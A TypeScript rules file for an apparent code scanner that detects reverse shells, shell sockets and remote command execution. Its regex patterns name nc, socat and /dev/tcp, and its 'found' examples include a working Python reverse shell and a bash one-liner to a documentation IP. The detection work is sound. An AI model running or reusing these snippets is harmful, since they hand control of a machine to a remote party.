import type { Pattern, Rule } from '../rule.ts';
import { KNOWN_PROGRAM } from './patterns.ts';

/** A connection made by hand: bytes on a socket rather than a request of a library. */
const SOCKET: Pattern = {
  capability: ['network.connect', 'network.listen'],
  callee:
    /^(socket\.|asyncio\.open_connection|(node:)?net\.|(node:)?tls\.|nc$|ncat$|socat$|telnet$|connect$|\/dev\/tcp)/,
  // A shell asks in this way whether a port of its own machine is free.
  // What a program says to the log of its machine is no connection to anybody.
  except: [
    { callee: /^(\/dev\/tcp|connect$)/, place: ['loopback'] },
    { callee: /^connect$/, place: ['unix-socket'] },
    // The agent's word for a server that listens does not say whether it speaks HTTP; the source does.
    { callee: /^net\.(Server|listen)/, seenBy: ['interpreter'] },
  ],
};
const SHELL_PROGRAM = /(^|['"\s[/])(ba|da|z|k)?sh\b(['"\]]|\s+-i\b|\s*$)|\bcmd\.exe\b|powershell/;
/** A shell on the line of one of its own sockets, or what stands for a shell: a loop that runs what it reads. */
const SHELL_AND_SOCKET =
  /\b(ba|da|z|k|a)?sh\b[^\n]{0,300}[<>]&?\s{0,5}["']?\/dev\/(tcp|udp)\/|\/dev\/(tcp|udp)\/[^\n]{0,300}(\b(ba|da|z|k|a)?sh\s|\bwhile\s+read\b|\beval\b)/;

const GIVES_SHELL =
  /^(os\.(system|popen)|subprocess\.(getoutput|getstatusoutput)|asyncio\.create_subprocess_shell|(node:)?child_process\.exec(Sync)?)$/;

/** Shells and commands at the other end of a connection. */
export const remoteRules = {
  'reverse-shell': {
    severity: 'critical',
    title: 'Gives a shell to another machine',
    capability: 'process.spawn',
    why: 'A shell whose input and output are a connection lets whoever is at its other end do anything.',
    cwe: ['CWE-506'],
    attack: ['T1059', 'T1571'],
    message: '{callee} {target}: a shell tied to a connection.',
    remedy: 'Do not run it.',
    examples: {
      found: {
        language: 'python',
        code: "import os, socket, subprocess\n\nline = socket.socket()\nline.connect(('203.0.113.9', 4444))\nos.dup2(line.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
      },
      ordinary: {
        language: 'python',
        code: "import socket, subprocess\n\nline = socket.socket()\nline.connect(('127.0.0.1', 5432))\nsubprocess.call(['sort', 'names.txt'])",
      },
    },
    when: {
      all: [
        [SOCKET],
        [
          { callee: /(^|\.)(dup2|pty\.spawn|forkpty)$/ },
          {
            capability: ['process.spawn'],
            text: SHELL_PROGRAM,
            callee: /^(subprocess|os|pty|(node:)?child_process|execve)\b/,
          },
        ],
      ],
      decisive: 1,
    },
  },
  'shell-over-network': {
    severity: 'critical',
    title: 'Ties a shell to a connection in one command',
    capability: 'process.spawn',
    why: 'The known one-line forms; none has another use.',
    cwe: ['CWE-506'],
    attack: ['T1059.004', 'T1571'],
    message: '{callee} {target}: a shell whose input or output is a connection.',
    remedy: 'Do not run it.',
    examples: {
      found: { language: 'bash', code: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' },
      ordinary: { language: 'bash', code: 'bash build.sh > build.log 2>&1' },
    },
    when: {
      any: [
        { text: SHELL_AND_SOCKET },
        { capability: ['process.spawn', 'network.connect', 'code.eval'], written: SHELL_AND_SOCKET },
        {
          text: /\b(nc|ncat|netcat)\b[^|;]*\s(-\w*[ec]\b|--(exec|sh-exec)|-c)\s|\bsocat\b.*\bexec:|\bmkfifo\b[\s\S]*\b(nc|ncat|telnet)\b/i,
        },
        { callee: /^(nc|ncat|netcat)$/, argument: /=-\w*[ec]$/ },
      ],
    },
  },
  'shell-socket': {
    severity: 'high',
    title: 'Opens a connection by the shell itself',
    capability: 'network.connect',
    why: 'It needs no program that could be missed or watched: the usual way out where there is no curl.',
    cwe: ['CWE-506'],
    attack: ['T1095', 'T1059.004'],
    message: '{callee} {target}: a socket of the shell.',
    remedy: 'Use a client that says what it does.',
    examples: {
      found: { language: 'bash', code: 'exec 3<>/dev/tcp/203.0.113.9/80' },
      ordinary: { language: 'bash', code: 'exec 3<>/dev/tcp/localhost/80' },
    },
    when: {
      any: [
        { callee: /^\/dev\/(tcp|udp)$/, except: [{ place: ['loopback'] }] },
        { place: ['shell-socket'], except: [{ callee: /^\/dev\/(tcp|udp)$/ }, { text: /\/(localhost|127\.)/ }] },
      ],
    },
  },
  'remote-command': {
    severity: 'high',
    title: 'Runs what a connection tells it to',
    capability: 'process.spawn',
    why: 'A program that connects by a socket and runs commands nobody wrote down is a remote control.',
    cwe: ['CWE-78', 'CWE-506'],
    attack: ['T1059', 'T1219'],
    message: '{callee} runs a command that is not in the source, in a program with a socket of its own.',
    remedy: 'Answer a fixed set of requests, each with its own function.',
    examples: {
      found: {
        language: 'python',
        code: "import socket, subprocess\n\nline = socket.socket()\nline.connect(('127.0.0.1', 5000))\nsubprocess.run(line.recv(1024), shell=True)",
      },
      ordinary: {
        language: 'python',
        code: "import socket, subprocess\n\nline = socket.socket()\nline.connect(('127.0.0.1', 5000))\nsubprocess.run(['date'])",
      },
    },
    when: {
      all: [[SOCKET], [{ capability: ['process.spawn', 'code.eval'], constant: false, except: [KNOWN_PROGRAM] }]],
      decisive: 1,
    },
  },
  'remote-shell': {
    severity: 'critical',
    title: 'Hands what a connection says to a shell',
    capability: 'process.spawn',
    why: 'A socket, and a shell for commands that are nowhere in the source: a remote control of the whole machine.',
    cwe: ['CWE-78', 'CWE-506'],
    attack: ['T1059', 'T1219', 'T1571'],
    message: '{callee} gives a shell a command that is not in the source, in a program with a socket of its own.',
    remedy: 'Do not run it. Answer a fixed set of requests, each with its own function.',
    examples: {
      found: {
        language: 'python',
        code: "import socket, subprocess\n\nline = socket.create_connection(('203.0.113.9', 5000))\nwhile True:\n    subprocess.run(line.recv(1024).decode(), shell=True)",
      },
      ordinary: {
        language: 'python',
        code: "import socket, subprocess\n\nline = socket.create_connection(('127.0.0.1', 5000))\nsubprocess.run('ls | wc -l', shell=True)\nline.sendall(b'done')",
      },
    },
    when: {
      all: [
        [SOCKET],
        [
          { capability: ['process.spawn'], constant: false, callee: GIVES_SHELL },
          { capability: ['process.spawn'], constant: false, argument: /^shell=(true|1|['"]?\/)/i },
        ],
      ],
      decisive: 1,
    },
  },
} as const satisfies Record<string, Rule>;
